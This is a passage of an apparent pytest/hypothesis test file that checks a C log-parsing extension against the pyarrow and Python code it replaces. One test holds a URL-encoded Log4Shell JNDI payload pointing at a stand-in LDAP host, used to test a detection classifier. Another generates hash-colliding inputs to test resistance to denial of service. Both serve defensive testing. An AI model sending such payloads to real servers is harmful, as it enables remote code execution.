"""upkeeper.logs._cut: the access-log line cut in C agrees with the pyarrow cut it replaces (the format's strict
RE2 pattern, then the split on quotes and blanks), byte for byte, on every line."""

from __future__ import annotations

import heapq
import sys
from collections import Counter
from itertools import compress
from typing import Any

import pyarrow as pa
import pyarrow.compute as pc
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from logs.test_access_arrow import (
    INGRESS_GOOD,
    INGRESS_ODD,
    ISO_UPSTREAM,
    ODD,
    UPSTREAM_FMT,
    UPSTREAM_GOOD,
    UPSTREAM_LISTS,
    UPSTREAMINFO,
)
from logs.test_access_parse import GOOD
from upkeeper.logs import _cut
from upkeeper.logs.access import AccessPartial, Accumulator, ScanOptions, all_paths, top, top_paths
from upkeeper.logs.arrowscan import CUT_MAX_ELEMS, ArrowPlan, arrow_plan, cut_program
from upkeeper.logs.nginx_format import COMBINED, COMBINED_TIMED, MAIN

ISO_GOOD = [
    b'1.2.3.4 - - [2024-03-01T10:00:00+00:00] a.example "GET /x?y=1 HTTP/1.1" 200 5 "-" "ua" 0.250 0.200',
    b'1.2.3.5 - - [2024-03-01T10:01:00-05:00] b.example "GET /tz HTTP/1.1" 200 5 "-" "ua" 1.5 -',
    b'1.2.3.5 - - [2024-03-01T10:01:00+00:00] b.example "GET /up HTTP/1.1" 502 5 "-" "ua" 1.5 1.2, 0.3',
]
#: each format with lines written in it (good, odd and lines of other formats)
UNTIMED = [x.rsplit(b" ", 1)[0] for x in GOOD]
CASES = {
    COMBINED_TIMED: GOOD + ODD,
    COMBINED: UNTIMED + GOOD + ODD,
    MAIN: [x + b' "-"' for x in UNTIMED] + [x + b' "10.0.0.1, 10.0.0.2"' for x in UNTIMED] + GOOD + ODD,
    ISO_UPSTREAM: ISO_GOOD + GOOD,
    UPSTREAM_FMT: UPSTREAM_GOOD + UPSTREAM_LISTS + ODD,
    UPSTREAMINFO: INGRESS_GOOD + INGRESS_ODD + ODD,
}


def plan_of(fmt: str) -> ArrowPlan:
    plan = arrow_plan(fmt)
    assert plan is not None and plan.program is not None
    return plan


def pyarrow_cut(lines: list[bytes], plan: ArrowPlan) -> tuple[list[bool], dict[str, list[bytes | None]]]:
    """What the pyarrow cut makes of ``lines``: which match the strict pattern, and each field of those."""
    arr = pa.array(lines, pa.large_binary())
    ok = pc.match_substring_regex(arr, plan.regex).to_pylist()
    fields: dict[str, list[bytes | None]] = {f: [] for f in plan.fields}
    for line, good in zip(lines, ok, strict=True):
        segs = line.split(b'"')
        for f, (si, ti) in plan.fields.items():
            fields[f].append((segs[si] if ti < 0 else segs[si].split(b" ")[ti]) if good else None)
    return ok, fields


def native_cut(lines: list[bytes], plan: ArrowPlan) -> tuple[list[bool], dict[str, list[bytes | None]], list[bytes]]:
    assert plan.program is not None
    buf = b"".join(x + b"\n" for x in lines)
    n, valid, n_ok, rejected, starts, columns = _cut.cut(buf, plan.program, plan.anchors)
    assert n == len(lines)
    vb = pa.py_buffer(valid)
    ok = pa.Array.from_buffers(pa.bool_(), n, [None, vb]).to_pylist()
    assert n_ok == sum(ok)
    st_ = pa.Array.from_buffers(pa.int64(), n + 1, [None, pa.py_buffer(starts)]).to_pylist()
    assert [buf[a:b - 1] for a, b in zip(st_[:-1], st_[1:], strict=True)] == lines
    fields = {f: pa.Array.from_buffers(pa.large_binary(), n, [vb, pa.py_buffer(o), pa.py_buffer(d)]).to_pylist()
              for f, (o, d) in zip(plan.fields, columns, strict=True)}
    return ok, fields, rejected


def assert_same_cut(lines: list[bytes], fmt: str) -> list[bool]:
    plan = plan_of(fmt)
    ok, fields = pyarrow_cut(lines, plan)
    c_ok, c_fields, rejected = native_cut(lines, plan)
    assert c_ok == ok
    assert c_fields == fields
    assert rejected == [x for x, good in zip(lines, ok, strict=True) if not good]
    return ok


def test_the_native_cut_is_built_and_the_scanner_uses_it() -> None:
    # make test builds the extension (setup.py): a machine without it would scan more slowly, unseen
    acc = Accumulator(ScanOptions(log_format=COMBINED_TIMED, arrow_min_buffer=0))
    acc.feed(b"\n".join(GOOD) + b"\n")
    assert acc.arrow is not None and acc.arrow.cutter is _cut.cut and acc.arrow.lines == len(GOOD)
    assert acc.arrow.count_rows is _cut.count_rows
    off = Accumulator(ScanOptions(log_format=COMBINED_TIMED, arrow_min_buffer=0, native_cut=False))
    off.feed(b"\n".join(GOOD) + b"\n")
    assert off.arrow is not None and off.arrow.cutter is None and off.arrow.lines == len(GOOD)


@pytest.mark.parametrize("fmt", list(CASES))
def test_every_listed_line_is_cut_as_pyarrow_cuts_it(fmt: str) -> None:
    ok = assert_same_cut(CASES[fmt], fmt)
    assert any(ok) and not all(ok)


_SPECIAL = b' "[]\\-:/,.%+0aZ\t\r\x00\x7f\x80\xff'


@st.composite
def mutated(draw: st.DrawFn) -> tuple[str, list[bytes]]:
    fmt = draw(st.sampled_from(sorted(CASES)))
    out = []
    for _ in range(draw(st.integers(1, 30))):
        line = bytearray(draw(st.sampled_from(CASES[fmt])))
        for _ in range(draw(st.integers(0, 4))):
            pos = draw(st.integers(0, len(line)))
            op = draw(st.sampled_from(("ins", "del", "rep", "dup")))
            ch = draw(st.sampled_from(_SPECIAL))
            if op == "ins":
                line.insert(pos, ch)
            elif op == "dup":  # a run of one byte: values at a run's limits, empty or long
                line[pos:pos] = bytes((ch,)) * draw(st.integers(2, 20))
            elif pos < len(line):
                if op == "del":
                    del line[pos]
                else:
                    line[pos] = ch
        out.append(bytes(line))
    return fmt, out


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(mutated())
@example((COMBINED_TIMED, [b"", b"x", b'"', b" " * 5]))
@example((UPSTREAMINFO, [INGRESS_GOOD[0].replace(b"[] ", b"[:] ").replace(b"[default-web-80]", b"[:]")]))
@example((UPSTREAM_FMT, [UPSTREAM_GOOD[0].replace(b"10.0.0.1:80 ", b"10.0.0.1:80, ")]))
def test_fuzz_the_native_cut_equals_the_pyarrow_cut(case: tuple[str, list[bytes]]) -> None:
    fmt, lines = case
    assert_same_cut(lines, fmt)


def test_a_pattern_a_greedy_run_cannot_say_has_no_program() -> None:
    # a run of variable length followed by a literal its class holds, or by another run of variable length: a regex
    # could end the run earlier (arrow_plan's formats never give one: their values stop at the next literal)
    assert cut_program([("[a-z]", 1, 9, 0), (b"x",)]) is None
    assert cut_program([("[a-z]", 1, 9, 0), ("[0-9]", 1, 9, 0)]) is None
    assert cut_program([("[a-z]", 2, 2, 0), ("[a-z]", 1, 9, 0), (b" ",)]) is not None
    # more elements than _cut.c takes: no program (the scan would fail on it)
    assert cut_program([(b"x",)] * CUT_MAX_ELEMS) is not None
    assert cut_program([(b"x",)] * (CUT_MAX_ELEMS + 1)) is None


def test_a_bad_program_is_refused() -> None:
    with pytest.raises(ValueError, match="bad cut program"):
        _cut.cut(b"x\n", b"Q", [])
    with pytest.raises(ValueError, match="bad cut program"):
        _cut.cut(b"x\n", b"L\x05\x00ab", [])
    with pytest.raises(ValueError, match="bad cut anchor"):
        _cut.cut(b"x\n", b"L\x01\x00x", [(0, 0, 2, 0)])  # one element: anchors reach element 1 (the end) at most
    n, valid, n_ok, rejected, _starts, columns = _cut.cut(b"x\ny\n", b"L\x01\x00x", [(0, 0, 1, 0)])
    assert (n, valid, n_ok, rejected, columns[0][1]) == (2, b"\x01", 1, [b"y"], b"x")


@settings(max_examples=200, deadline=None)
@given(st.sampled_from(sorted(CASES)), st.lists(st.binary(max_size=300).map(lambda b: b.replace(b"\n", b"")),
                                                min_size=1, max_size=10))
def test_fuzz_arbitrary_bytes_are_cut_as_pyarrow_cuts_them(fmt: str, lines: list[bytes]) -> None:
    assert_same_cut(lines, fmt)


#: every byte a value's class leaves out, and others (the vector scan of a value stops at each of the first kind)
#: (not 0x0a, which ends a line, nor 0xa0, which only the C cut leaves out of a value: see the test after this one)
_STOP_BYTES = [bytes((c,)) for c in [*range(0x0a), *range(0x0b, 0x20), 0x7f]] + [
    b" ", b'"', b"[", b"]", b"\\", b",", b":", b"a", b"\x80", b"\xff", b"\x9f", b"\xa1"]


@settings(max_examples=300, deadline=None)
@given(st.sampled_from(sorted(CASES)), st.integers(0, 40), st.sampled_from(["u", "R", "r", "h", "T", "P"]),
       st.sampled_from(_STOP_BYTES), st.integers(0, 60), st.integers(0, 3))
def test_fuzz_long_values_stopped_at_every_lane_are_cut_as_pyarrow_cuts_them(fmt: str, at: int, field: str,
                                                                              stop: bytes, length: int,
                                                                              which: int) -> None:
    """A value 16 bytes or longer is scanned 16 bytes at a time (SSE2): a byte out of its class at each lane of
    a block, in the last block or after it, and at a run's end, ends it where the byte-by-byte scan would."""
    plan = plan_of(fmt)
    if field not in plan.fields:
        return
    line = CASES[fmt][which % len(CASES[fmt])]
    ok, fields = pyarrow_cut([line], plan)
    value = fields[field][0]
    if not ok[0] or not value:
        return
    long = (value * (1 + length // max(1, len(value))))[:max(length, len(value))]
    changed = long[:at] + stop + long[at + 1:] if at < len(long) else long
    assert_same_cut([line.replace(value, long, 1), line.replace(value, changed, 1), line], fmt)


def test_a_long_address_holding_the_collapse_s_byte_in_any_lane_goes_to_the_line_parser() -> None:
    """0xA0 (a collapsed list's blank) is out of the class of every unquoted value but a list's in the C cut: in
    any lane of a 16-byte block of a long value, the line is rejected (the line parser reads it)."""
    plan = plan_of(COMBINED_TIMED)
    line = GOOD[0]
    addr = line.split(b" ", 1)[0]
    for at in range(40):
        long = (b"1" * 40)[:at] + b"\xa0" + b"1" * (40 - at)
        ok, _fields, rejected = native_cut([line.replace(addr, long, 1), line.replace(addr, b"1" * 41, 1)], plan)
        assert ok == [False, True] and rejected == [line.replace(addr, long, 1)]


def _path_counts_reference(counts: dict[bytes, int]) -> dict[bytes, int]:
    """access.all_paths' loop, as it was written in Python."""
    out: dict[bytes, int] = {}
    for k, c in counts.items():
        path = k.partition(b"\0")[0].partition(b"?")[0]
        out[path] = out.get(path, 0) + c
    return out


_key_piece = st.sampled_from([b"/", b"/a", b"?", b"?x=1", b"\0", b"GET", b"\0GET\0HTTP/1.1", b"#", b"\xff", b""])


@settings(max_examples=300, deadline=None)
@given(st.dictionaries(st.lists(_key_piece, max_size=6).map(b"".join), st.integers(-(2 ** 70), 2 ** 70), max_size=30))
def test_hits_per_path_in_c_equal_the_python_loop(counts: dict[bytes, int]) -> None:
    got = _cut.path_counts(counts)
    want = _path_counts_reference(counts)
    assert got == want and list(got) == list(want)  # the same sums, in the same order


def test_hits_per_path_refuses_what_is_not_a_dict_of_bytes() -> None:
    with pytest.raises(TypeError):
        _cut.path_counts({"str": 1})  # type: ignore[dict-item]
    with pytest.raises(TypeError):
        _cut.path_counts([(b"a", 1)])  # type: ignore[arg-type]


def _top_candidates_reference(counts: dict[Any, int], n: int) -> list[tuple[Any, int]]:
    """access.top's pre-selection, as it is written in Python."""
    if not counts:
        return []
    floor = heapq.nlargest(n, counts.values())[-1]
    return [kv for kv in counts.items() if kv[1] >= floor]


@settings(max_examples=400, deadline=None)
@given(st.dictionaries(st.binary(max_size=3), st.one_of(st.integers(-5, 5), st.integers(-(2 ** 63), 2 ** 63 - 1),
                                                        st.booleans()), max_size=40),
       st.integers(1, 12))
def test_top_candidates_in_c_equal_the_python_selection(counts: dict[bytes, int], n: int) -> None:
    """The items whose count reaches the n-th highest (ties and repeats included), in the dict's order."""
    assert _cut.top_candidates(counts, n) == _top_candidates_reference(counts, n)
    assert _cut.top_candidates(Counter(counts), n) == _top_candidates_reference(counts, n)


def test_top_candidates_leave_what_is_no_machine_integer_to_python() -> None:
    assert _cut.top_candidates({b"a": 1, b"b": 2 ** 64}, 1) is None
    assert _cut.top_candidates({b"a": 1, b"b": 1.5}, 1) is None  # type: ignore[dict-item]
    assert _cut.top_candidates({}, 3) == []
    with pytest.raises(ValueError):
        _cut.top_candidates({b"a": 1}, 0)
    with pytest.raises(TypeError):
        _cut.top_candidates([(b"a", 1)], 1)  # type: ignore[arg-type]


def _path_top_reference(counts: dict[bytes, int], others: list[dict[bytes, int]], n: int) -> list[tuple[bytes, int]]:
    """access.top's pre-selection of access.all_paths, as it is written in Python."""
    paths = Counter(_path_counts_reference(counts))
    for d in others:
        paths.update(d)
    return _top_candidates_reference(paths, n)


_path_piece = st.sampled_from([b"/", b"/a", b"/b", b"/abcdefgh", b"/abcdefghi", b"?", b"?x=1", b"#", b"\xff", b"",
                               b"\0GET\0HTTP/1.1", b"\0POST\0-"])
_path_hits = st.one_of(st.integers(0, 4), st.integers(-(2 ** 40), 2 ** 40))


@settings(max_examples=400, deadline=None)
@given(st.dictionaries(st.lists(_path_piece, max_size=5).map(b"".join), _path_hits, max_size=40),
       st.lists(st.dictionaries(st.lists(_path_piece.filter(lambda x: b"\0" not in x), max_size=3).map(b"".join),
                                _path_hits, max_size=10), max_size=3),
       st.integers(1, 12))
def test_busiest_paths_in_c_are_those_of_all_paths(counts: dict[bytes, int], others: list[dict[bytes, int]],
                                                   n: int) -> None:
    """The same sums per path as all_paths (a key's URL up to its '?', then the other counters' paths), and the
    same pre-selection as top_candidates' (ties and repeats included), in any order."""
    got = _cut.path_top(counts, others, n)
    assert got is not None
    assert sorted(got) == sorted(_path_top_reference(counts, others, n))


def test_busiest_paths_of_a_large_log_are_those_of_all_paths() -> None:
    """Thousands of paths (the table grows past its first sizes, hashes collide in their low bits), most of
    them with several keys: the summary's top paths as top(all_paths(p)) finds them."""
    counts = {f"/p{i % 5000}{'?q=' + str(i) if i % 3 else ''}\0GET\0HTTP/1.1".encode(): i % 97 for i in range(20000)}
    others = [{f"/p{i}".encode(): i % 13 for i in range(0, 8000, 7)}, {b"/static/x.js": 10 ** 6}]
    for n in (1, 10, 1000):
        assert sorted(_cut.path_top(counts, others, n) or []) == sorted(_path_top_reference(counts, others, n))
    p = AccessPartial(ga_requests=Counter(counts), static_paths=Counter(others[0]), not_found=Counter(others[1]))
    assert top_paths(p, 10) == top(all_paths(p), 10)
    assert top_paths(p, 10)[0] == (b"/static/x.js", 10 ** 6)
    p.ga_pruned_paths = Counter({b"/p7": 10 ** 5, b"/pruned": 10 ** 7})  # (the hits of keys left out, per path)
    assert top_paths(p, 10) == top(all_paths(p), 10)
    assert top_paths(p, 2) == [(b"/pruned", 10 ** 7), (b"/static/x.js", 10 ** 6)]


def test_busiest_paths_leave_what_is_no_machine_integer_to_python() -> None:
    assert _cut.path_top({b"/a\0GET\0-": 1, b"/b": 2 ** 64}, [], 1) is None
    assert _cut.path_top({b"/a\0GET\0-": 2 ** 62, b"/a?x\0GET\0-": 2 ** 62}, [{b"/a": 2 ** 62}], 1) is None  # a sum past it
    assert _cut.path_top({b"/a": 1.5}, [], 1) is None  # type: ignore[dict-item]
    assert _cut.path_top({"/a": 1}, [], 1) is None  # type: ignore[dict-item]
    assert _cut.path_top({b"/a": 1}, [{"/b": 1}], 1) is None  # type: ignore[list-item]
    assert _cut.path_top({}, [{}], 3) == []
    with pytest.raises(ValueError):
        _cut.path_top({b"/a": 1}, [], 0)
    with pytest.raises(TypeError):
        _cut.path_top({b"/a": 1}, [[(b"/b", 1)]], 1)  # type: ignore[list-item]
    big = AccessPartial(ga_requests=Counter({b"/a\0GET\0-": 2 ** 64, b"/b\0GET\0-": 1}))
    assert top_paths(big, 1) == [(b"/a", 2 ** 64)]  # (in Python)


_count_key = st.one_of(st.binary(max_size=4), st.tuples(st.binary(max_size=3), st.integers(0, 3)), st.integers(0, 5))


@settings(max_examples=300, deadline=None)
@given(st.dictionaries(_count_key, st.integers(-(2 ** 70), 2 ** 70), max_size=20),
       st.dictionaries(_count_key, st.one_of(st.integers(-(2 ** 70), 2 ** 70), st.booleans()), max_size=20))
def test_adding_counts_in_c_equals_counter_update(into: dict[Any, int], other: dict[Any, int]) -> None:
    want = Counter(into)
    want.update(other)
    got = Counter(into)
    _cut.add_counts(got, other)
    assert got == want and list(got.items()) == list(want.items())  # the same counts, in the same order
    twice = Counter(into)
    _cut.add_counts(twice, twice)  # (itself: every count doubled, as Counter.update does)
    assert twice == Counter({k: 2 * v for k, v in into.items()})


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(st.none(), st.binary(max_size=3)), min_size=1, max_size=8).flatmap(
    lambda keys: st.tuples(st.just(keys), st.lists(st.one_of(st.none(), st.integers(0, len(keys) - 1)), max_size=40),
                           st.integers(0, 5), st.integers(0, 5))),
       st.dictionaries(st.binary(max_size=3), st.integers(-(2 ** 70), 2 ** 70), max_size=5))
def test_counting_rows_in_c_equals_counter_update_of_the_rows_keys(case: tuple[list[bytes | None], list[int | None],
                                                                                 int, int], into: dict[bytes, int]) -> None:
    """_cut.count_rows (the arrow scan's per-row counting of request lines, static paths and 404s) counts what
    Counter.update of each valid row's key counts, keys None left out, in the order of first appearance of the
    indices (a dictionary encoding's order), for an array sliced anywhere."""
    keys, rows, head, tail = case
    col = pa.array(rows, pa.int32()).slice(min(head, len(rows)), max(0, len(rows) - head - tail))
    want = Counter(into)
    want.update(k for i in col.to_pylist() if i is not None and (k := keys[i]) is not None)
    got = Counter(into)
    validity, data = col.buffers()
    _cut.count_rows(got, keys, data, col.offset, len(col), validity if col.null_count else None)
    assert got == want
    firsts = list(dict.fromkeys(i for i in col.to_pylist() if i is not None))
    if firsts == sorted(firsts):  # (as dictionary_encode numbers them): the same order too
        assert list(got.items()) == list(want.items())


def test_counting_rows_refuses_short_buffers_and_indexes_out_of_range() -> None:
    col = pa.array([0, 1, 2], pa.int32())
    with pytest.raises(ValueError, match="shorter"):
        _cut.count_rows({}, [b"a", b"b", b"c"], col.buffers()[1], 1, 3, None)
    with pytest.raises(IndexError, match="range"):
        _cut.count_rows({}, [b"a", b"b"], col.buffers()[1], 0, 3, None)
    got: dict[bytes, int] = {}
    _cut.count_rows(got, [b"a", b"b", b"c"], col.buffers()[1], 0, 3, None)
    assert got == {b"a": 1, b"b": 1, b"c": 1}


_pct_piece = st.sampled_from([b"%", b"%4", b"%41", b"%e4", b"%BD", b"%zz", b"%4g", b"%%", b"%0", b"a", b"+", b"\xff",
                              b"%25", b"%2541", b"%u0041", b"/", b""])


@settings(max_examples=500, deadline=None)
@given(st.one_of(st.lists(_pct_piece, max_size=12).map(b"".join), st.binary(max_size=40)))
@example(b"%")
@example(b"ab%4")
@example(b"%41%42")
def test_unquote_in_c_equals_urllib(raw: bytes) -> None:
    from urllib.parse import unquote_to_bytes

    got = _cut.unquote(raw)
    assert got == unquote_to_bytes(raw) and type(got) is bytes
    assert _cut.unquote(bytearray(raw)) == got == _cut.unquote(memoryview(raw))


def test_unquote_refuses_text() -> None:
    with pytest.raises(TypeError):
        _cut.unquote("%41")  # type: ignore[arg-type]


def test_decode_request_uses_the_c_unquote() -> None:
    from upkeeper.logs import classify

    assert classify._unquote is _cut.unquote
    assert classify.referer_exploit(b"https://x.example/?q=%24%7Bjndi%3Aldap%3A%2F%2Fa.b%2Fc%7D") == "log4shell_in_referer"
    assert classify.nginx_uri(b"/wp-login%2ephp") == b"/wp-login.php"


# -- combos: the distinct combinations of coded columns (ArrowScanner._combos) ------------------------------------

def _scanners() -> tuple[Any, Any]:
    """A scanner with the C extension's combos and one with the pyarrow kernels'."""
    native = Accumulator(ScanOptions(log_format=COMBINED_TIMED, arrow_min_buffer=0))
    kernels = Accumulator(ScanOptions(log_format=COMBINED_TIMED, arrow_min_buffer=0, native_cut=False))
    for acc in (native, kernels):
        acc.feed(b"\n".join(GOOD) + b"\n")
    assert native.arrow is not None and kernels.arrow is not None
    assert native.arrow.combos is _cut.combos and kernels.arrow.combos is None
    return native.arrow, kernels.arrow


_SCANNERS: list[tuple[Any, Any]] = []
_combo_value = {
    "bytes": st.one_of(st.none(), st.sampled_from([b"", b"a", b"b", b"ab", b"\x00", b"\xff" * 3])),
    "int64": st.one_of(st.none(), st.integers(-3, 3), st.sampled_from([2 ** 62, -(2 ** 63)])),
    "int32": st.one_of(st.none(), st.integers(0, 4)),
}
_ARROW_TYPE = {"bytes": pa.large_binary(), "int64": pa.int64(), "int32": pa.int32()}


@st.composite
def combo_case(draw: st.DrawFn) -> tuple[list[Any], Any, bool]:
    """1 to 3 columns of one length (nulls, collisions), sliced anywhere, and a keep mask (nulls too) or None."""
    kinds = draw(st.lists(st.sampled_from(sorted(_combo_value)), min_size=1, max_size=3))
    n = draw(st.integers(0, 60))
    head, tail = draw(st.integers(0, 3)), draw(st.integers(0, 3))
    cols = [pa.array(draw(st.lists(_combo_value[k], min_size=n + head + tail, max_size=n + head + tail)),
                     _ARROW_TYPE[k]).slice(head, n) for k in kinds]
    keep = None
    if draw(st.booleans()):
        keep = pa.array(draw(st.lists(st.one_of(st.none(), st.booleans()), min_size=n + 2, max_size=n + 2)),
                        pa.bool_()).slice(draw(st.integers(0, 2)), n)
    return cols, keep, draw(st.booleans())


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(combo_case())
def test_fuzz_combos_in_c_equal_the_pyarrow_kernels(case: tuple[list[Any], Any, bool]) -> None:
    """_cut.combos (the visitors, latencies, bursts, pairs of the arrow scan) finds the combinations, their counts and
    their order that dictionary_encode, int64 keys and value_counts/unique find: rows with a null value or not kept
    (false or null) left out, in the order of their first row, for columns and masks sliced anywhere."""
    if not _SCANNERS:
        _SCANNERS.append(_scanners())
    native, kernels = _SCANNERS[0]
    cols, keep, count = case
    want = kernels._combos(cols, keep, count)
    assert native._combos(cols, keep, count) == want
    # counted into a dict: Counter.update of the combinations' counts (tuples of the values; a value for one column)
    keys = list(zip(*want[0], strict=True)) if len(cols) > 1 else want[0][0]
    into: Counter[Any] = Counter({keys[0]: 7} if keys else {})  # (one combination counted already)
    expect = Counter(into)
    expect.update(dict(zip(keys, want[1], strict=True)) if count else {})
    if count:
        coded = [native._coded(c) for c in cols]
        mask = None if keep is None else (keep.buffers()[1], keep.offset, keep.buffers()[0] if keep.null_count else None)
        assert _cut.combos(coded, mask, True, into) is None
        assert into == expect and list(into.items()) == list(expect.items())


def _combos_model(cols: list[tuple[list[Any], bytes, int, int, bytes | None]],
                  keep: tuple[bytes, int, bytes | None] | None) -> tuple[list[list[Any]], list[int]]:
    """What combos is to find, in plain Python over the raw buffers."""
    def bit(b: bytes, i: int) -> bool:
        return bool(b[i >> 3] >> (i & 7) & 1)
    n = cols[0][3]
    found: dict[tuple[int, ...], int] = {}
    for r in range(n):
        if keep is not None and (not bit(keep[0], keep[1] + r) or (keep[2] is not None and not bit(keep[2], keep[1] + r))):
            continue
        codes = []
        for keys, data, off, _n, valid in cols:
            if valid is not None and not bit(valid, off + r):
                break
            c = int.from_bytes(data[4 * (off + r):4 * (off + r) + 4], "little", signed=True)
            if not 0 <= c < len(keys):
                raise IndexError(c)
            codes.append(c)
        else:
            found[tuple(codes)] = found.get(tuple(codes), 0) + 1
    return ([[cols[j][0][k[j]] for k in found] for j in range(len(cols))], list(found.values()))


@settings(max_examples=400, deadline=None)
@given(st.integers(1, 3).flatmap(lambda k: st.tuples(
    st.integers(0, 40), st.lists(st.tuples(st.integers(0, 6), st.binary(max_size=200), st.integers(0, 9),
                                           st.one_of(st.none(), st.binary(max_size=30))), min_size=k, max_size=k),
    st.one_of(st.none(), st.tuples(st.binary(max_size=30), st.integers(0, 9), st.one_of(st.none(), st.binary(max_size=30)))),
)))
def test_fuzz_combos_of_hostile_buffers_raise_or_agree_with_a_python_model(
        case: tuple[int, list[tuple[int, bytes, int, bytes | None]], tuple[bytes, int, bytes | None] | None]) -> None:
    """Random bytes as codes, bitmaps and masks, short buffers, offsets past the end: combos reads nothing out of
    bounds — it refuses short buffers (ValueError) and codes out of their keys (IndexError), else finds what a
    plain Python reading of the same buffers finds."""
    n, raw, keep = case
    cols = [([b"k%d" % i for i in range(nkeys)], data, off, n, valid) for nkeys, data, off, valid in raw]
    short = any(4 * (off + n) > len(data) or (valid is not None and off + n > 8 * len(valid))
                for _k, data, off, _n, valid in cols)
    short = short or keep is not None and (keep[1] + n > 8 * len(keep[0])
                                           or keep[2] is not None and keep[1] + n > 8 * len(keep[2]))
    if short:
        with pytest.raises(ValueError, match="too short"):
            _cut.combos(cols, keep, True, None)
        return
    try:
        want = _combos_model(cols, keep)
    except IndexError:
        with pytest.raises(IndexError, match="out of its keys"):
            _cut.combos(cols, keep, True, None)
        return
    values, counts = _cut.combos(cols, keep, True, None) or ((), [])
    assert (list(values), counts) == want


def test_combos_refuse_odd_arguments_and_count_many_rows() -> None:
    col = pa.array([0, 1, 1], pa.int32())
    data = col.buffers()[1]
    for bad, err in [([], ValueError), ([([b"a", b"b"], data, 0, 3, None)] * 9, ValueError),
                     ([([b"a", b"b"], data, 0, 3, None), ([b"a", b"b"], data, 0, 2, None)], ValueError),
                     ([((b"a", b"b"), data, 0, 3, None)], TypeError), ([([b"a", b"b"], data, -1, 3, None)], ValueError),
                     ([([b"a", b"b"], data, 2 ** 62, 2 ** 62, None)], ValueError),
                     ([([b"a", b"b"], data, 0, 3, "no buffer")], TypeError), (5, TypeError)]:
        with pytest.raises(err):
            _cut.combos(bad, None, True, None)
    with pytest.raises(TypeError):
        _cut.combos([([b"a", b"b"], data, 0, 3, None)], None, True, [])
    with pytest.raises(ValueError, match="too short"):
        _cut.combos([([b"a", b"b"], data, 0, 3, None)], (b"", 0, None), True, None)
    with pytest.raises(IndexError):
        _cut.combos([([b"a"], data, 0, 3, None)], None, True, None)
    assert _cut.combos([([b"a", b"b"], data, 0, 0, None)], None, True, None) == (([],), [])
    many = pa.array([3] * (1 << 20) + [0], pa.int32())
    got: dict[Any, int] = {b"d": 2 ** 64}
    _cut.combos([([b"a", b"b", b"c", b"d"], many.buffers()[1], 0, len(many), None)] * 2, None, True, got)
    assert got == {b"d": 2 ** 64, (b"d", b"d"): 1 << 20, (b"a", b"a"): 1}
    _cut.combos([([b"a", b"b", b"c", b"d"], many.buffers()[1], 0, len(many), None)], None, True, got)
    assert got == {b"d": 2 ** 64 + (1 << 20), (b"d", b"d"): 1 << 20, (b"a", b"a"): 1, b"a": 1}



def _colliding_pairs(seed: int, k: int, cap: int, window: int, want: int) -> list[tuple[int, int]]:
    """(a, b) code pairs, both below k, that combos' hash of two columns (mix64 chained from ``seed``) puts in the
    first ``window`` slots of a table of ``cap``: what one who knows the seed can send."""
    u = pa.uint64()
    s33 = pa.scalar(33, u)

    def mix(h: Any) -> Any:
        h = pc.multiply(pc.bit_wise_xor(h, pc.shift_right(h, s33)), pa.scalar(0xFF51AFD7ED558CCD, u))
        h = pc.multiply(pc.bit_wise_xor(h, pc.shift_right(h, s33)), pa.scalar(0xC4CEB9FE1A85EC53, u))
        return pc.bit_wise_xor(h, pc.shift_right(h, s33))

    bs = pa.array(range(k), u)
    pairs: list[tuple[int, int]] = []
    for a in range(k):
        ha = mix(pa.array([seed ^ a], u))[0]
        slot = pc.bit_wise_and(pc.add(mix(pc.bit_wise_xor(bs, ha)), pa.scalar(1, u)), pa.scalar(cap - 1, u))
        pairs += [(a, b) for b in pc.indices_nonzero(pc.less(slot, pa.scalar(window, u))).to_pylist()]
        if len(pairs) >= want:
            return pairs[:want]
    return pairs


def test_combos_take_no_quadratic_time_on_pairs_made_to_collide() -> None:
    """The hash of combos is seeded per process: rows of an attacker's (referer, address) or (agent, address)
    pairs chosen to fall in a few slots of the table for a known seed are counted as fast as any others (with the
    fixed seed they were: 10,000 rows in 64 slots, ~50 million probes, ~80 times as long as shuffled pairs)."""
    import random
    import time

    k = 10_000  # codes 0..k-1 in each column (the first k rows), then k rows of pairs made to collide
    pairs = _colliding_pairs(0x9E3779B97F4A7C15, k, 65_536, 64, k)
    assert len(pairs) == k
    a = list(range(k)) + [x for x, _ in pairs]
    b = list(range(k)) + [y for _, y in pairs]
    keys = [b"%d" % i for i in range(k)]
    shuffled = b[:k] + random.Random(1).sample(b[k:], k)

    def took(second: list[int]) -> float:
        cols = [(keys, pa.array(a, pa.int32()).buffers()[1], 0, len(a), None),
                (keys, pa.array(second, pa.int32()).buffers()[1], 0, len(a), None)]
        best = 1e9
        for _ in range(3):
            t = time.perf_counter()
            got = _cut.combos(cols, None, True, None)
            best = min(best, time.perf_counter() - t)
            assert got is not None and sum(got[1]) == 2 * k
        return best

    crafted, plain = took(b), took(shuffled)
    assert crafted < 10 * plain + 0.02, (crafted, plain)


# -- request_ids: the endpoint id and static path of each distinct request line -----------------------------------

def _request_ids_model(lines: list[bytes], ep_of: dict[bytes, bytes], static_of: dict[bytes, bytes | None],
                       ep_ids: dict[bytes, int], ep_list: list[bytes]) -> tuple[list[int], list[bytes | None], bool]:
    """ArrowScanner._aggregate's Python code that request_ids replaces (ids given in order of first appearance)."""
    eps = [ep_of[x] for x in lines]
    for e in dict.fromkeys(eps):
        if e not in ep_ids:
            ep_ids[e] = len(ep_list)
            ep_list.append(e)
    sp_of = [static_of[x] for x in lines]
    return [ep_ids[e] for e in eps], sp_of, any(sp is not None for sp in sp_of)


@settings(max_examples=400, deadline=None)
@given(st.lists(st.binary(max_size=6), max_size=30), st.lists(st.binary(max_size=2), min_size=1, max_size=6),
       st.lists(st.one_of(st.none(), st.binary(max_size=4)), min_size=1, max_size=5), st.integers(0, 4), st.randoms())
def test_fuzz_request_ids_in_c_equal_the_python_maps(lines: list[bytes], endpoints: list[bytes],
                                                     statics: list[bytes | None], known: int, rnd: Any) -> None:
    """_cut.request_ids gives each line the id of its endpoint (new endpoints numbered on, in order of first
    appearance, appended to the list) and its static path, as the maps it replaces did."""
    ep_of = {x: rnd.choice(endpoints) for x in lines}
    static_of = {x: rnd.choice(statics) for x in lines}
    ep_list = list(dict.fromkeys(endpoints))[:known]
    ep_ids = {e: i for i, e in enumerate(ep_list)}
    want_ids, want_ep_list = dict(ep_ids), list(ep_list)
    want = _request_ids_model(lines, ep_of, static_of, want_ids, want_ep_list)
